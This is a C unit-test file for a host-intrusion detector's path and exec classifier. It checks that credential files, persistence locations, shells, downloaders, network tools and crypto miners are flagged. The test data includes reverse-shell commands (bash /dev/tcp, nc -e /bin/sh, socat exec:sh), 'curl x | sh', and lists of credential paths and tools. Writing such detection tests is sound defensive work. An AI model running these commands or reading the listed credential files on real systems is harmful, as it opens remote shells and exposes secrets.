/* Unit tests for user/pathclass.c: credential reads, persistence writes and
 * exec classification. */
#include <stdlib.h>
#include <string.h>

#include "check.h"
#include "detect/pathclass.h"

#define NARGS(a) (sizeof(a) / sizeof((a)[0]))
/* exec_classify on a literal argv: EXEC("/bin/sh", "sh", "-c", "id"). */
#define EXEC(path, ...)                                                         \
	exec_classify((path), NULL, NULL, (const char *const[]){ __VA_ARGS__ }, \
		      NARGS(((const char *const[]){ __VA_ARGS__ })), NULL)

static bool cred_is(const char *path, const char *want)
{
	const char *got = credential_path_match(path);

	if (!got || strcmp(got, want) != 0) {
		printf("  credential \"%s\": got %s, want %s\n", path, got ? got : "NULL", want);
		return false;
	}
	return true;
}

static bool persist_is(const char *path, const char *want)
{
	const char *got = persistence_path_match(path);

	if (!got || strcmp(got, want) != 0) {
		printf("  persistence \"%s\": got %s, want %s\n", path, got ? got : "NULL", want);
		return false;
	}
	return true;
}

static bool not_cred(const char *path)
{
	const char *got = credential_path_match(path);

	if (got)
		printf("  \"%s\" wrongly a credential (%s)\n", path, got);
	return got == NULL;
}

static bool not_persist(const char *path)
{
	const char *got = persistence_path_match(path);

	if (got)
		printf("  \"%s\" wrongly persistence (%s)\n", path, got);
	return got == NULL;
}

/* ---- credentials ----------------------------------------------------- */

static void test_cred_ssh(void)
{
	CHECK(cred_is("/root/.ssh/id_rsa", "ssh-key"));
	CHECK(cred_is("/home/alice/.ssh/id_ed25519", "ssh-key"));
	CHECK(cred_is("/home/alice/.ssh/id_ecdsa", "ssh-key"));
	CHECK(cred_is("/home/alice/.ssh/identity", "ssh-key"));
	CHECK(cred_is("/home/alice/.ssh/deploy.pem", "ssh-key"));
	CHECK(cred_is("/home/alice/.ssh/github_deploy", "ssh-key"));
	CHECK(cred_is("/srv/jupyter/.ssh/id_rsa_work", "ssh-key"));
	CHECK(cred_is("/home/alice/.ssh/config", "ssh-config"));
	CHECK(cred_is("/etc/ssh/ssh_host_ed25519_key", "ssh-host-key"));
	/* Public material, read by every ssh and git: not a credential. */
	CHECK(not_cred("/home/alice/.ssh/id_rsa.pub"));
	CHECK(not_cred("/home/alice/.ssh/known_hosts"));
	CHECK(not_cred("/home/alice/.ssh/known_hosts.old"));
	CHECK(not_cred("/home/alice/.ssh/authorized_keys"));
	CHECK(not_cred("/etc/ssh/ssh_host_ed25519_key.pub"));
	CHECK(not_cred("/etc/ssh/sshd_config"));
	CHECK(not_cred("/home/alice/.ssh/"));
	CHECK(not_cred("/home/alice/.ssh"));
	CHECK(not_cred("/home/alice/notssh/id_rsa"));
}

static void test_cred_cloud(void)
{
	CHECK(cred_is("/root/.aws/credentials", "aws-credentials"));
	CHECK(cred_is("/home/ray/.aws/config", "aws-config"));
	CHECK(cred_is("/home/ray/.aws/sso/cache/abc123.json", "aws-sso-cache"));
	CHECK(cred_is("/home/u/.config/gcloud/credentials.db", "gcloud-credentials"));
	CHECK(cred_is("/home/u/.config/gcloud/access_tokens.db", "gcloud-credentials"));
	CHECK(cred_is("/home/u/.config/gcloud/application_default_credentials.json",
		      "gcloud-credentials"));
	CHECK(cred_is("/home/u/.config/gcloud/legacy_credentials/me@x.com/adc.json",
		      "gcloud-credentials"));
	CHECK(cred_is("/home/u/.azure/msal_token_cache.json", "azure-credentials"));
	CHECK(cred_is("/home/u/.azure/accessTokens.json", "azure-credentials"));
	CHECK(cred_is("/root/.kube/config", "kube-config"));
	CHECK(not_cred("/root/.aws/credentials.bak/readme"));
	CHECK(not_cred("/root/.kube/cache/discovery/x.json"));
	CHECK(not_cred("/home/u/.config/gcloud/configurations/config_default"));
	CHECK(not_cred("/home/u/aws/config"));
}

static void test_cred_kubernetes(void)
{
	CHECK(cred_is("/var/run/secrets/kubernetes.io/serviceaccount/token",
		      "k8s-serviceaccount-token"));
	CHECK(cred_is("/run/secrets/kubernetes.io/serviceaccount/token",
		      "k8s-serviceaccount-token"));
	CHECK(cred_is("/var/run/secrets/kubernetes.io/serviceaccount/..2024_01_01_00_00_00.1/token",
		      "k8s-serviceaccount-token"));
	CHECK(cred_is("/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
		      "eks-serviceaccount-token"));
	CHECK(cred_is("/run/secrets/db_password", "container-secret"));
	/* The namespace and CA are public. */
	CHECK(not_cred("/var/run/secrets/kubernetes.io/serviceaccount/namespace"));
	CHECK(not_cred("/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"));
	CHECK(not_cred("/run/secrets/"));
	CHECK(not_cred("/var/lib/secrets/kubernetes.io/serviceaccount/token"));
}

static void test_cred_tokens_and_dotfiles(void)
{
	CHECK(cred_is("/root/.cache/huggingface/token", "hf-token"));
	CHECK(cred_is("/root/.cache/huggingface/stored_tokens", "hf-token"));
	CHECK(cred_is("/home/u/.huggingface/token", "hf-token"));
	CHECK(cred_is("/data/hf/huggingface/token", "hf-token"));
	CHECK(not_cred("/root/.cache/huggingface/hub/models--gpt2/snapshots/abc/tokenizer.json"));
	CHECK(not_cred("/root/.cache/huggingface/hub/models--x/token"));
	CHECK(not_cred("/srv/token"));

	CHECK(cred_is("/root/.netrc", "netrc"));
	CHECK(cred_is("/home/u/.git-credentials", "git-credentials"));
	CHECK(cred_is("/home/u/.config/git/credentials", "git-credentials"));
	CHECK(cred_is("/home/u/.docker/config.json", "docker-config"));
	CHECK(cred_is("/home/u/.pypirc", "pypirc"));
	CHECK(cred_is("/home/u/.npmrc", "npmrc"));
	CHECK(cred_is("/home/u/.kaggle/kaggle.json", "kaggle-token"));
	CHECK(cred_is("/home/u/.databrickscfg", "databricks-config"));
	CHECK(cred_is("/home/u/.pgpass", "pgpass"));
	CHECK(cred_is("/home/u/.my.cnf", "mysql-config"));
	CHECK(cred_is("/home/u/.vault-token", "vault-token"));
	CHECK(not_cred("/home/u/config.json"));
	CHECK(not_cred("/home/u/project/kaggle.json"));
	CHECK(not_cred("/home/u/.netrc.d/readme"));
}

static void test_cred_system(void)
{
	CHECK(cred_is("/etc/shadow", "shadow"));
	CHECK(cred_is("/etc/gshadow", "shadow"));
	CHECK(cred_is("/etc/shadow-", "shadow"));
	CHECK(cred_is("/etc/sudoers", "sudoers"));
	CHECK(cred_is("/etc/sudoers.d/90-cloud-init-users", "sudoers"));
	CHECK(cred_is("/proc/self/environ", "proc-environ"));
	CHECK(cred_is("/proc/1/environ", "proc-environ"));
	CHECK(cred_is("/proc/4242/task/4243/environ", "proc-environ"));
	CHECK(not_cred("/etc/passwd"));
	CHECK(not_cred("/etc/shadowsocks/config.json"));
	CHECK(not_cred("/proc/self/cmdline"));
	CHECK(not_cred("/proc/self/maps"));
	CHECK(not_cred("/home/u/proc/1/environ.txt"));
}

static void test_cred_history_browser_env(void)
{
	CHECK(cred_is("/root/.bash_history", "shell-history"));
	CHECK(cred_is("/home/u/.zsh_history", "shell-history"));
	CHECK(cred_is("/home/u/.python_history", "python-history"));
	CHECK(cred_is("/home/u/.config/google-chrome/Default/Login Data", "browser-store"));
	CHECK(cred_is("/home/u/.config/google-chrome/Default/Cookies", "browser-store"));
	CHECK(cred_is("/home/u/.mozilla/firefox/abc.default/logins.json", "browser-store"));
	CHECK(cred_is("/home/u/.mozilla/firefox/abc.default/key4.db", "browser-store"));
	CHECK(cred_is("/srv/app/.env", "dotenv"));
	CHECK(cred_is("/srv/app/.env.production", "dotenv"));
	CHECK(cred_is("/srv/app/.env.local", "dotenv"));
	/* Templates hold no secrets; other names only look alike. */
	CHECK(not_cred("/srv/app/.env.example"));
	CHECK(not_cred("/srv/app/.envrc"));
	CHECK(not_cred("/srv/app/env"));
	CHECK(not_cred("/srv/app/.environment"));
	CHECK(not_cred("/srv/venv/.env/bin/python"));
}

static void test_cred_benign_and_hostile(void)
{
	static const char *const benign[] = {
		"/root/.cache/huggingface/hub/models--gpt2/snapshots/1/pytorch_model.bin",
		"/usr/lib/python3/dist-packages/torch/__init__.py",
		"/etc/resolv.conf",
		"/etc/hosts",
		"/etc/ssl/certs/ca-certificates.crt",
		"/tmp/model.pt",
		"/dev/null",
		"/",
		"",
	};

	for (size_t i = 0; i < NARGS(benign); i++)
		CHECK(not_cred(benign[i]));
	CHECK(credential_path_match(NULL) == NULL);
	CHECK(persistence_path_match(NULL) == NULL);
	CHECK(persistence_path_match("") == NULL);

	/* Long, newline-laden, invalid UTF-8 paths: no crash, right answer. */
	char *big = malloc(9000);
	CHECK(big != NULL);
	if (!big)
		return;
	memset(big, 'a', 8999);
	big[0] = '/';
	big[8999] = '\0';
	CHECK(not_cred(big));
	CHECK(not_persist(big));
	memcpy(big + 8999 - strlen("/.aws/credentials"), "/.aws/credentials",
	       strlen("/.aws/credentials"));
	CHECK(cred_is(big, "aws-credentials"));
	free(big);
	CHECK(cred_is("/home/\xff\xfe\n/.ssh/id_rsa", "ssh-key"));
	/* Not a ".pub" file, whatever the bytes before. */
	CHECK(cred_is("/home/u/.ssh/id_rsa\n.pub\xc3", "ssh-key"));
	CHECK(not_cred("/home/u/.ssh/\xc3\xa9.pub"));
}

/* ---- persistence ----------------------------------------------------- */

static void test_persistence(void)
{
	CHECK(persist_is("/etc/crontab", "cron"));
	CHECK(persist_is("/etc/cron.d/miner", "cron"));
	CHECK(persist_is("/etc/cron.hourly/x", "cron"));
	CHECK(persist_is("/var/spool/cron/crontabs/root", "cron"));
	CHECK(persist_is("/etc/systemd/system/dns-filter.service", "systemd-unit"));
	CHECK(persist_is("/lib/systemd/system/x.service", "systemd-unit"));
	CHECK(persist_is("/usr/lib/systemd/system/x.service", "systemd-unit"));
	CHECK(persist_is("/home/u/.config/systemd/user/x.service", "systemd-unit"));
	CHECK(persist_is("/root/.bashrc", "shell-rc"));
	CHECK(persist_is("/home/u/.bash_profile", "shell-rc"));
	CHECK(persist_is("/home/u/.profile", "shell-rc"));
	CHECK(persist_is("/home/u/.zshrc", "shell-rc"));
	CHECK(persist_is("/etc/profile", "shell-rc"));
	CHECK(persist_is("/etc/profile.d/zz.sh", "shell-rc"));
	CHECK(persist_is("/etc/ld.so.preload", "ld-preload"));
	CHECK(persist_is("/usr/lib/python3/dist-packages/evil.pth", "python-pth"));
	CHECK(persist_is("/opt/venv/lib/python3.11/site-packages/distutils-precedence.pth",
			 "python-pth"));
	CHECK(persist_is("/usr/lib/python3/dist-packages/sitecustomize.py", "python-startup"));
	CHECK(persist_is("/etc/hosts", "hosts"));
	CHECK(persist_is("/root/.ssh/authorized_keys", "authorized-keys"));
	CHECK(persist_is("/home/u/.ssh/authorized_keys2", "authorized-keys"));
	CHECK(persist_is("/etc/rc.local", "rc-local"));
	CHECK(persist_is("/etc/sudoers", "sudoers"));
	CHECK(persist_is("/etc/sudoers.d/ray", "sudoers"));
	CHECK(persist_is("/etc/passwd", "account-db"));

	CHECK(not_persist("/etc/hosts.allow"));
	CHECK(not_persist("/etc/hostname"));
	CHECK(not_persist("/etc/resolv.conf"));
	CHECK(not_persist("/tmp/x.pth"));
	/* A .pth inside a package directory is data, not a startup hook. */
	CHECK(not_persist("/usr/lib/python3/dist-packages/pkg/data.pth"));
	CHECK(not_persist("/usr/lib/python3/dist-packages/torch/__init__.py"));
	CHECK(not_persist("/root/.cache/torch/hub/checkpoints/resnet.pth"));
	CHECK(not_persist("/root/.bashrc.swp"));
	CHECK(not_persist("/root/notes.profile"));
	CHECK(not_persist("/root/.ssh/id_rsa"));
	CHECK(not_persist("/var/spool/mail/root"));
	CHECK(not_persist("/etc/ld.so.cache"));
}

/* ---- exec ------------------------------------------------------------ */

static void test_exec_shells(void)
{
	CHECK(EXEC("/bin/sh", "sh", "-c", "id") == (EXEC_SHELL | EXEC_SHELL_INLINE));
	CHECK(EXEC("/bin/bash", "bash", "-i") == (EXEC_SHELL | EXEC_SHELL_INLINE));
	CHECK(EXEC("/bin/bash", "bash", "-lc", "curl x | sh") == (EXEC_SHELL | EXEC_SHELL_INLINE));
	CHECK(EXEC("/usr/bin/zsh", "zsh", "-ic", "x") == (EXEC_SHELL | EXEC_SHELL_INLINE));
	CHECK(EXEC("/bin/dash", "dash", "-ec", "x") == (EXEC_SHELL | EXEC_SHELL_INLINE));
	CHECK(EXEC("/bin/bash", "bash", "script.sh") == EXEC_SHELL);
	CHECK(EXEC("/bin/ksh", "ksh") == EXEC_SHELL);
	CHECK(EXEC("/bin/ash", "ash", "-x", "s.sh") == EXEC_SHELL);
	CHECK(EXEC("/bin/mksh", "mksh") == EXEC_SHELL);
	/* Reverse shell by redirection, no -c needed. */
	CHECK(EXEC("/bin/bash", "bash", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242") ==
	      (EXEC_SHELL | EXEC_SHELL_INLINE));
	CHECK(EXEC("/bin/sh", "sh", "x >/dev/udp/1.2.3.4/53") == (EXEC_SHELL | EXEC_SHELL_INLINE));
	/* Long options are not -c. */
	CHECK(EXEC("/bin/bash", "bash", "--norc", "run.sh") == EXEC_SHELL);
	/* /dev/tcp in a non-shell's argv does not make it a shell. */
	CHECK(!(EXEC("/usr/bin/cat", "cat", "/dev/tcp/x/1") & (EXEC_SHELL | EXEC_SHELL_INLINE)));
}

static void test_exec_busybox(void)
{
	CHECK(EXEC("/bin/busybox", "busybox", "sh", "-c", "id") ==
	      (EXEC_SHELL | EXEC_SHELL_INLINE));
	CHECK(EXEC("/bin/busybox", "busybox", "ash") == EXEC_SHELL);
	/* Applet named by argv[0] (a symlink run through busybox). */
	CHECK(EXEC("/bin/busybox", "sh", "-c", "id") == (EXEC_SHELL | EXEC_SHELL_INLINE));
	CHECK(EXEC("/bin/busybox", "busybox", "wget", "http://x") == EXEC_DOWNLOADER);
	CHECK(EXEC("/bin/busybox", "busybox", "nc", "1.2.3.4", "4444") == EXEC_NETTOOL);
	CHECK(EXEC("/bin/busybox", "busybox") == 0);
	CHECK(exec_classify("/bin/busybox", NULL, NULL, NULL, 0, NULL) == 0);
}

static void test_exec_downloaders(void)
{
	CHECK(EXEC("/usr/bin/curl", "curl", "-fsSL", "http://x/a.sh") == EXEC_DOWNLOADER);
	CHECK(EXEC("/usr/bin/wget", "wget", "-qO-", "http://x") == EXEC_DOWNLOADER);
	CHECK(EXEC("/usr/bin/tftp", "tftp") == EXEC_DOWNLOADER);
	CHECK(EXEC("/usr/bin/scp", "scp", "a", "b:") == EXEC_DOWNLOADER);
	CHECK(EXEC("/usr/bin/rsync", "rsync", "-a", "x", "y") == EXEC_DOWNLOADER);
	CHECK(EXEC("/usr/bin/ftp", "ftp") == EXEC_DOWNLOADER);
	CHECK(EXEC("/usr/bin/aria2c", "aria2c", "u") == EXEC_DOWNLOADER);
	CHECK(EXEC("/usr/bin/git", "git", "clone", "https://x/y.git") == EXEC_DOWNLOADER);
	CHECK(EXEC("/usr/bin/git", "git", "-C", "/tmp", "clone", "u") == EXEC_DOWNLOADER);
	CHECK(EXEC("/usr/bin/git", "git", "-c", "http.sslVerify=false", "clone", "u") ==
	      EXEC_DOWNLOADER);
	CHECK(EXEC("/usr/bin/git", "git", "log") == 0);
	CHECK(EXEC("/usr/bin/git", "git", "-C", "clone", "log") == 0);
	CHECK(EXEC("/usr/bin/curlie", "curlie") == 0);
}

static void test_exec_interpreters(void)
{
	const unsigned I = EXEC_INLINE_INTERP;

	CHECK(EXEC("/usr/bin/python3", "python3", "-c", "import os") == I);
	CHECK(EXEC("/usr/bin/python", "python", "-c", "x") == I);
	CHECK(EXEC("/usr/bin/python2", "python2", "-c", "x") == I);
	CHECK(EXEC("/usr/bin/python3.11", "python3.11", "-c", "x") == I);
	CHECK(EXEC("/usr/bin/python3", "python3", "-Ic", "x") == I);
	CHECK(EXEC("/usr/bin/python3", "python3", "-u", "-c", "x") == I);
	CHECK(EXEC("/usr/bin/python3", "python3", "train.py", "-c", "cfg.yaml") == 0);
	CHECK(EXEC("/usr/bin/python3", "python3", "-W", "ignore", "train.py") == 0);
	/* -W/-X values are not option letters ("c" in ResourceWarning). */
	CHECK(EXEC("/usr/bin/python3", "python3", "-Wdefault::ResourceWarning", "t.py") == 0);
	CHECK(EXEC("/usr/bin/python3", "python3", "-Xdev", "-c", "x") == I);
	CHECK(EXEC("/usr/bin/python3", "python3", "-m", "torch.distributed.run") == 0);
	CHECK(EXEC("/usr/bin/perl", "perl", "-e", "print 1") == I);
	CHECK(EXEC("/usr/bin/perl", "perl", "-E", "say 1") == I);
	CHECK(EXEC("/usr/bin/perl", "perl", "-MIO::Socket", "-e", "x") == I);
	CHECK(EXEC("/usr/bin/perl", "perl", "-lne", "print") == I);
	CHECK(EXEC("/usr/bin/perl", "perl", "-MIO::Socket", "script.pl") == 0);
	CHECK(EXEC("/usr/bin/ruby", "ruby", "-rsocket", "-e", "x") == I);
	CHECK(EXEC("/usr/bin/ruby", "ruby", "-e", "x") == I);
	CHECK(EXEC("/usr/bin/ruby", "ruby", "app.rb") == 0);
	CHECK(EXEC("/usr/bin/node", "node", "-e", "require('child_process')") == I);
	CHECK(EXEC("/usr/bin/nodejs", "nodejs", "--eval", "x") == I);
	CHECK(EXEC("/usr/bin/node", "node", "server.js") == 0);
	CHECK(EXEC("/usr/bin/php", "php", "-r", "system('id');") == I);
	CHECK(EXEC("/usr/bin/php", "php", "index.php") == 0);
	CHECK(EXEC("/usr/bin/lua", "lua", "-e", "os.execute('id')") == I);
	CHECK(EXEC("/usr/bin/lua5.4", "lua5.4", "-e", "x") == I);
	/* Not interpreters. */
	CHECK(EXEC("/usr/bin/python3-config", "python3-config", "-c") == 0);
	CHECK(EXEC("/usr/bin/perldoc", "perldoc", "-e") == 0);
}

static void test_exec_pkg_install(void)
{
	const unsigned P = EXEC_PKG_INSTALL;

	CHECK(EXEC("/usr/bin/pip", "pip", "install", "evil") == P);
	CHECK(EXEC("/usr/bin/pip3", "pip3", "install", "-U", "x") == P);
	CHECK(EXEC("/usr/bin/pip3.11", "pip3.11", "-q", "install", "x") == P);
	CHECK(EXEC("/usr/bin/python3", "python3", "-m", "pip", "install", "x") == P);
	CHECK(EXEC("/usr/bin/python3", "python3", "-mpip", "install", "x") == P);
	CHECK(EXEC("/usr/bin/python", "python", "-u", "-m", "pip", "--quiet", "install", "x") == P);
	CHECK(EXEC("/usr/bin/pip", "pip", "list") == 0);
	CHECK(EXEC("/usr/bin/pip", "pip", "download", "install") == 0);
	CHECK(EXEC("/usr/bin/python3", "python3", "-m", "pip", "freeze") == 0);
	CHECK(EXEC("/usr/bin/python3", "python3", "-m", "pipx", "install", "x") == 0);
}

static void test_exec_nettools_miners(void)
{
	CHECK(EXEC("/usr/bin/nc", "nc", "-e", "/bin/sh", "1.2.3.4", "4444") == EXEC_NETTOOL);
	CHECK(EXEC("/usr/bin/ncat", "ncat") == EXEC_NETTOOL);
	CHECK(EXEC("/bin/netcat", "netcat") == EXEC_NETTOOL);
	CHECK(EXEC("/usr/bin/socat", "socat", "tcp:x:1", "exec:sh") == EXEC_NETTOOL);
	CHECK(EXEC("/usr/bin/telnet", "telnet", "x") == EXEC_NETTOOL);
	CHECK(EXEC("/bin/nc.openbsd", "nc") == EXEC_NETTOOL);

	CHECK(EXEC("/opt/xmrig/xmrig", "xmrig", "-o", "pool:3333") == EXEC_MINER);
	CHECK(EXEC("/usr/local/bin/minerd", "minerd") == EXEC_MINER);
	CHECK(EXEC("/usr/local/bin/cpuminer", "cpuminer") == EXEC_MINER);
	CHECK(EXEC("/usr/local/bin/xmr-stak", "xmr-stak") == EXEC_MINER);
	CHECK(EXEC("/usr/local/bin/ccminer", "ccminer") == EXEC_MINER);
	CHECK(EXEC("/usr/local/bin/ethminer", "ethminer") == EXEC_MINER);
	CHECK(EXEC("/usr/local/bin/nbminer", "nbminer") == EXEC_MINER);
	CHECK(EXEC("/usr/local/bin/t-rex", "t-rex") == EXEC_MINER);
	CHECK(EXEC("/usr/local/bin/lolMiner", "lolMiner") == EXEC_MINER);
	/* ShadowRay: XMRig renamed dns-filter, caught by its pool URL. */
	CHECK(EXEC("/usr/local/bin/dns-filter", "dns-filter", "-o",
		   "stratum+tcp://pool.example:3333", "--max-cpu-usage=60") == EXEC_MINER);
	CHECK(EXEC("/usr/bin/x", "x", "--url=stratum+ssl://p:443") == EXEC_MINER);
	CHECK(EXEC("/usr/bin/x", "x", "-o", "STRATUM2+TCP://p") == EXEC_MINER);
	CHECK(EXEC("/usr/bin/x", "x", "-o", "tcp://pool:3333") == 0);
}

static void test_exec_recon_persist(void)
{
	static const char *const recon[] = {
		"id",       "whoami", "uname",   "hostname", "ps", "env", "printenv",
		"ifconfig", "ip",     "netstat", "ss",       "w",  "who", "last",
	};
	static const char *const persist[] = {
		"crontab", "systemctl", "iptables", "ip6tables", "nft",
		"useradd", "usermod",   "adduser",  "chattr",
	};
	char path[64];

	for (size_t i = 0; i < NARGS(recon); i++) {
		snprintf(path, sizeof(path), "/usr/bin/%s", recon[i]);
		if (EXEC(path, recon[i]) != EXEC_RECON) {
			printf("  %s not recon\n", recon[i]);
			CHECK(!"recon");
		}
	}
	for (size_t i = 0; i < NARGS(persist); i++) {
		snprintf(path, sizeof(path), "/usr/sbin/%s", persist[i]);
		if (EXEC(path, persist[i]) != EXEC_PERSIST_TOOL) {
			printf("  %s not persist-tool\n", persist[i]);
			CHECK(!"persist");
		}
	}
	CHECK(EXEC("/bin/uname", "uname", "-a") == EXEC_RECON);
	CHECK(EXEC("/bin/ps", "ps", "aux") == EXEC_RECON);
	CHECK(EXEC("/usr/sbin/iptables-legacy", "iptables", "-A", "OUTPUT") == EXEC_PERSIST_TOOL);
	CHECK(EXEC("/usr/bin/crontab", "crontab", "-l") == EXEC_PERSIST_TOOL);
	/* env as a launcher: the command is its own exec. */
	CHECK(EXEC("/usr/bin/env", "env", "python3", "x.py") == 0);
	CHECK(EXEC("/usr/bin/env", "env", "-i", "A=1", "sh") == 0);
	CHECK(EXEC("/usr/bin/env", "env", "-u", "HOME") == EXEC_RECON);
	CHECK(EXEC("/usr/bin/env", "env", "A=1") == EXEC_RECON);
	CHECK(EXEC("/usr/bin/env", "env", "-C", "/srv") == EXEC_RECON);
	CHECK(EXEC("/usr/bin/env", "env", "-C", "/srv", "make") == 0);
	/* cat is not recon. */
	CHECK(EXEC("/bin/cat", "cat", "/etc/passwd") == 0);
}

static void test_exec_benign_ml(void)
{
	const unsigned B = EXEC_BENIGN_ML;
	static const char *const tools[] = {
		"gcc", "cc",   "c++",   "g++",  "clang",     "ld",     "ld.bfd",     "ld.gold",
		"as",  "nvcc", "ptxas", "cicc", "fatbinary", "nvlink", "nvidia-smi",
	};
	char path[64];

	for (size_t i = 0; i < NARGS(tools); i++) {
		snprintf(path, sizeof(path), "/usr/bin/%s", tools[i]);
		if (EXEC(path, tools[i], "-O2") != B) {
			printf("  %s not benign-ml\n", tools[i]);
			CHECK(!"benign");
		}
	}
	CHECK(EXEC("/usr/bin/x86_64-linux-gnu-gcc-12", "gcc", "-c", "x.c") == B);
	CHECK(EXEC("/usr/bin/clang-14", "clang", "x.c") == B);
	CHECK(EXEC("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1", "x.c") == B);
	CHECK(EXEC("/sbin/ldconfig", "/sbin/ldconfig", "-p") == B);
	CHECK(EXEC("/sbin/ldconfig", "ldconfig") == 0);
	/* platform.processor() runs `uname -p`: benign, not recon. */
	CHECK(EXEC("/bin/uname", "uname", "-p") == B);
	CHECK(EXEC("/usr/bin/uname", "uname", "-p", "-a") == EXEC_RECON);
	CHECK(EXEC("/usr/bin/git", "git", "rev-parse", "HEAD") == B);
	CHECK(EXEC("/usr/bin/git", "git", "describe", "--always") == B);
	CHECK(EXEC("/usr/bin/git", "git", "status", "--porcelain") == B);
	CHECK(EXEC("/usr/bin/git", "git", "-C", "/repo", "rev-parse", "--short", "HEAD") == B);
	/* A compiler dropped in /tmp keeps both bits. */
	CHECK(EXEC("/tmp/gcc", "gcc") == (B | EXEC_FROM_TEMP));
	CHECK(EXEC("/usr/bin/gccx", "gccx") == 0);
}

static void test_exec_temp_base64(void)
{
	CHECK(EXEC("/tmp/x", "x") == EXEC_FROM_TEMP);
	CHECK(EXEC("/var/tmp/.hidden/kworker", "kworker") == EXEC_FROM_TEMP);
	CHECK(EXEC("/dev/shm/a", "a") == EXEC_FROM_TEMP);
	CHECK(EXEC("/tmp/xmrig", "xmrig") == (EXEC_FROM_TEMP | EXEC_MINER));
	CHECK(EXEC("/tmpfoo/x", "x") == 0);
	CHECK(EXEC("/usr/tmp/x", "x") == 0);
	/* No path: argv[0] decides. */
	CHECK(EXEC(NULL, "/tmp/payload") == EXEC_FROM_TEMP);
	CHECK(EXEC("", "/dev/shm/sh", "-c", "x") ==
	      (EXEC_FROM_TEMP | EXEC_SHELL | EXEC_SHELL_INLINE));

	CHECK(EXEC("/usr/bin/base64", "base64", "-d") == EXEC_BASE64_DECODE);
	CHECK(EXEC("/usr/bin/base64", "base64", "--decode", "f") == EXEC_BASE64_DECODE);
	CHECK(EXEC("/usr/bin/base64", "base64", "--dec") == EXEC_BASE64_DECODE);
	CHECK(EXEC("/usr/bin/base64", "base64", "-D") == EXEC_BASE64_DECODE);
	CHECK(EXEC("/usr/bin/base64", "base64", "-di") == EXEC_BASE64_DECODE);
	CHECK(EXEC("/usr/bin/base64", "base64", "-w0", "file") == 0);
	CHECK(EXEC("/usr/bin/base64", "base64") == 0);
}

static void test_exec_program_name(void)
{
	/* The path's basename wins over argv[0] (argv[0] is chosen by the caller). */
	CHECK(EXEC("/bin/bash", "[kworker/0:1]", "-c", "x") == (EXEC_SHELL | EXEC_SHELL_INLINE));
	CHECK(EXEC("/usr/bin/python3", "-bash", "-c", "x") == EXEC_INLINE_INTERP);
	/* Without a path, argv[0]'s basename. */
	CHECK(EXEC(NULL, "/usr/bin/curl", "x") == EXEC_DOWNLOADER);
	CHECK(EXEC("/usr/bin/", "wget") == EXEC_DOWNLOADER);
	/* Several bits at once. */
	CHECK(EXEC("/tmp/sh", "sh", "-c", "stratum+tcp://x") ==
	      (EXEC_FROM_TEMP | EXEC_SHELL | EXEC_SHELL_INLINE | EXEC_MINER));
}

static void test_exec_hostile_input(void)
{
	CHECK(exec_classify(NULL, NULL, NULL, NULL, 0, NULL) == 0);
	CHECK(exec_classify("", NULL, NULL, NULL, 0, NULL) == 0);
	CHECK(exec_classify(NULL, NULL, NULL, NULL, 5, NULL) == 0);
	CHECK(exec_classify("/bin/sh", NULL, NULL, NULL, 3, NULL) == EXEC_SHELL);
	const char *const nulls[] = { NULL, NULL, "-c", NULL };
	CHECK(exec_classify("/bin/sh", NULL, NULL, nulls, 4, NULL) ==
	      (EXEC_SHELL | EXEC_SHELL_INLINE));
	CHECK(exec_classify(NULL, NULL, NULL, nulls, 4, NULL) == 0);
	const char *const empties[] = { "", "", "" };
	CHECK(exec_classify("", NULL, NULL, empties, 3, NULL) == 0);
	CHECK(exec_classify("/usr/bin/python3", NULL, NULL,
			    (const char *const[]){ "python3", "-m", NULL }, 3, NULL) == 0);
	CHECK(exec_classify("/usr/bin/python3", NULL, NULL,
			    (const char *const[]){ "python3", "-m" }, 2, NULL) == 0);
	CHECK(exec_classify("/usr/bin/python3", NULL, NULL,
			    (const char *const[]){ "python3", "-W" }, 2, NULL) == 0);
	CHECK(exec_classify("/usr/bin/git", NULL, NULL, (const char *const[]){ "git", "-C" }, 2,
			    NULL) == 0);

	/* 8 KB arguments with newlines and invalid UTF-8. */
	char *big = malloc(8193);
	CHECK(big != NULL);
	if (!big)
		return;
	for (size_t i = 0; i < 8192; i++)
		big[i] = (char)(i % 7 == 0 ? '\n' : (i % 5 == 0 ? 0xff : 'A' + i % 26));
	big[8192] = '\0';
	const char *const argv1[] = { "sh", big, "-c", big };
	CHECK(exec_classify("/bin/sh", NULL, NULL, argv1, 4, NULL) ==
	      (EXEC_SHELL | EXEC_SHELL_INLINE));
	const char *const argv2[] = { big, big };
	CHECK(exec_classify(big, NULL, NULL, argv2, 2, NULL) == 0);
	memcpy(big + 4000, "stratum+tcp://", 14);
	CHECK(exec_classify("/usr/bin/x", NULL, NULL, argv2, 2, NULL) == EXEC_MINER);
	char *path = malloc(8200);
	CHECK(path != NULL);
	if (path) {
		memset(path, '/', 8199);
		path[8199] = '\0';
		CHECK(exec_classify(path, NULL, NULL, NULL, 0, NULL) == 0);
		memcpy(path, "/tmp/", 5);
		CHECK(exec_classify(path, NULL, NULL, NULL, 0, NULL) == EXEC_FROM_TEMP);
		free(path);
	}
	free(big);
	CHECK(EXEC("/bin/s\nh", "sh") == 0);
	CHECK(EXEC("/bin/\xff\xfe", "\xff") == 0);
}

static void test_exec_class_names(void)
{
	char buf[256];

	CHECK_STR(exec_class_names(EXEC_SHELL | EXEC_SHELL_INLINE, buf, sizeof(buf)),
		  "shell,shell-inline");
	CHECK_STR(exec_class_names(0, buf, sizeof(buf)), "");
	CHECK_STR(exec_class_names(EXEC_BENIGN_ML, buf, sizeof(buf)), "benign-ml");
	CHECK_STR(exec_class_names(EXEC_DOWNLOADER | EXEC_FROM_TEMP, buf, sizeof(buf)),
		  "downloader,from-temp");
	CHECK_STR(exec_class_names(0xfffu, buf, sizeof(buf)),
		  "shell,shell-inline,downloader,inline-interp,nettool,miner,recon,"
		  "persist-tool,pkg-install,from-temp,base64-decode,benign-ml");
	/* Unknown bits are ignored. */
	CHECK_STR(exec_class_names(EXEC_MINER | (1u << 30), buf, sizeof(buf)), "miner");
	/* The return value is the buffer. */
	CHECK(exec_class_names(EXEC_RECON, buf, sizeof(buf)) == buf);

	/* Truncation is safe and flagged. */
	char small[12];
	memset(small, 'x', sizeof(small));
	CHECK_STR(exec_class_names(EXEC_SHELL | EXEC_SHELL_INLINE, small, sizeof(small)),
		  "shell,sh...");
	char exact[19];
	CHECK_STR(exec_class_names(EXEC_SHELL | EXEC_SHELL_INLINE, exact, sizeof(exact)),
